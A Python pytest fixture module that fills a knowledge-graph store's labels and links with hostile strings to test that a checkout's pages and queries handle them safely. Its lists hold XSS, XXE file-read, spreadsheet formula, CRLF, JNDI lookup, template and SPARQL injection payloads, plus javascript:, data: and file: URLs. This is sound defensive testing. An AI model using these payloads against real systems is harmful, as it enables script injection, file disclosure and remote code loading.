"""The graph of the checkout with hostile texts in place of all its own, and hostile addresses.

Loaders and shapes refuse some of these; a store may hold what came another way. What is not in a
text, such as types, dates and who claims what, is as it was, so that each page and each question
has something to show.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Final

import pyoxigraph as px
import pytest
from oncemade import once
from storing import publish

from alliancekg.namespaces import ID, PREFIXES
from alliancekg.store import Store

HANGUL: Final = "주한 미군 철수"
ARABIC: Final = "مبدأ نيكسون"
MEGABYTE: Final = "Q" * 1_000_000
HOSTILE: Final = (
    "<script>alert(1)</script>",
    "\"><img src=x onerror='alert(2)'>",
    "' onmouseover='alert(3)' x='",
    "javascript:alert(4)",
    "</title></style></textarea></script><script>alert(5)</script>",
    "]]><!-- --><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/hostname'>]>&y;&lt;",
    "\u202egnirts a\u202d never closed \u2067 isolate",
    "zero\u200bwidth\ufeff\u200d\u00adjoined",
    "\x01\x08\x0b\x1b[31mred\x7f\x85\u2028\ufffe",
    "NUL \x00 within",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1-1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "x\r\nSet-Cookie: a=b\r\n\r\n<p>",
    "${jndi:ldap://192.0.2.1/a}{{7*7}}{% raw %}<%= 7*7 %>#{7*7}",
    "\\uD800 \\ud83d %00 %0d%0a &#0; \\",
    "W" * 2500,
    '"; DROP GRAPH <urn:x> #',
    '\'\'\'""" \\" \\n }} . <urn:a> <urn:b> <urn:c>',
    "12 < 18 & 20",
    HANGUL,
    ARABIC,
)
"""Texts that would do harm somewhere if they were taken for anything but text."""

ADDRESSES: Final = (
    "javascript:alert(6)",
    "JaVaScRiPt:alert(7)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCg4KTwvc2NyaXB0Pg==",
    "vbscript:msgbox(9)",
    "file:///etc/hostname",
    "https://evil.example/?a=1&b='%0d%0a",
)
_TEXTS: Final = frozenset(
    PREFIXES[name.partition(":")[0]] + name.partition(":")[2]
    for name in (
        *("rdfs:label", "skos:prefLabel", "skos:altLabel", "skos:note", "skos:definition"),
        *("skos:example", "skos:scopeNote", "ak:paraphrase", "ak:hedge", "ak:obligation"),
        *("dcterms:title", "dcterms:creator", "dcterms:publisher", "rdfs:comment"),
        *("dcterms:bibliographicCitation", "ak:file", "ak:paragraph", "skos:notation"),
    )
)
_LEADS: Final = frozenset(
    PREFIXES[name.partition(":")[0]] + name.partition(":")[2]
    for name in ("ak:wikidata", "dcterms:license", "skos:closeMatch")
)
_STRENGTH: Final = px.Literal("troop strength", language="en")
MIDDLE: Final = px.NamedNode(f"{ID}event/nixon-doctrine")
"""The event that has every text as another name, every address, and a text of a megabyte."""


def texts_of(quads: list[px.Quad]) -> dict[str, str]:
    """Return which hostile text stands for each text, each of them once."""
    found = dict.fromkeys(
        quad.object.value
        for quad in sorted(quads, key=str)
        if quad.predicate.value in _TEXTS and isinstance(quad.object, px.Literal)
    )
    return {text: f"{HOSTILE[at % len(HOSTILE)]} {at}" for at, text in enumerate(found)}


def hostile_quads(quads: list[px.Quad]) -> Iterator[px.Quad]:
    """Yield quads with hostile texts and addresses in place of theirs, and some more."""
    texts = texts_of(quads)
    for at, quad in enumerate(sorted(quads, key=str)):
        said = quad.object
        if said == _STRENGTH:  # by which the chart knows its numbers
            pass
        elif quad.predicate.value in _TEXTS and isinstance(said, px.Literal):
            said = _literal(texts[said.value], said)
        elif quad.predicate.value in _LEADS:
            said = px.NamedNode(ADDRESSES[at % len(ADDRESSES)])
        yield px.Quad(quad.subject, quad.predicate, said, quad.graph_name)
    graph = px.NamedNode("https://w3id.org/alliancekg/graph/hwang-2006")
    for text in HOSTILE:
        yield px.Quad(MIDDLE, _term("skos:altLabel"), px.Literal(text, language="en"), graph)
    for address in ADDRESSES:
        for name in ("rdfs:seeAlso", "owl:sameAs", "dcterms:source", "ak:wikidata"):
            yield px.Quad(MIDDLE, _term(name), px.NamedNode(address), graph)
    for name in ("skos:note", "skos:altLabel"):
        yield px.Quad(MIDDLE, _term(name), px.Literal(MEGABYTE, language="en"), graph)


def _term(name: str) -> px.NamedNode:
    prefix, _, rest = name.partition(":")
    return px.NamedNode(PREFIXES[prefix] + rest)


def _literal(text: str, like: px.Literal) -> px.Literal:
    if like.language:
        return px.Literal(text, language=like.language)
    return px.Literal(text, datatype=like.datatype)


@pytest.fixture(scope="session")
def hostile_store(built: Store, tmp_path_factory: pytest.TempPathFactory) -> Store:
    """Return a store with the hostile graph, made once; it is only to be read."""

    def make(folder: Path) -> None:
        graph = built.current().open()
        named = [q for q in graph if isinstance(q.graph_name, px.NamedNode)]
        publish(Store(folder / "store"), *hostile_quads(named))

    return Store(once(tmp_path_factory, "hostile", make) / "store")
